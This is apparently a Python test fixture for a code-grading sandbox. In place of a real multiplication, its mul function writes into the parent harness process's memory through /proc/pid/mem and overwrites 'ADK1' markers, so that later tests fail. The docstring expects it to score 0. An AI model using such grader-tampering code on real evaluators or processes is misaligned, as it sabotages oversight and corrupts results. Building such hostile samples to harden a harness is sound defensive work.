# mypy: ignore-errors
# ruff: noqa
"""Overwrites the zygote's memory, so that every later test goes wrong.

Class: killing
Where: in mul
Expected: score 0; no path opens
"""

import os

PARENT = os.getppid() if os.getppid() > 1 else os.getpid()


def mul(a, b):
    pid = PARENT
    with open(f"/proc/{pid}/cmdline", "rb") as file:
        assert b"@LAB@" in file.read()
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", 0) as memory:
        for line in maps:
            first, last = (int(part, 16) for part in line.split()[0].split("-"))
            if (
                " rw-p" in line
                and "/" not in line
                and "stack" not in line
                and last - first < 1 << 28
            ):
                memory.seek(first)
                data = memory.read(last - first)
                at = data.find(b"ADK1")
                while at >= 0:
                    memory.seek(first + at)
                    memory.write(b"XXXX")
                    at = data.find(b"ADK1", at + 4)
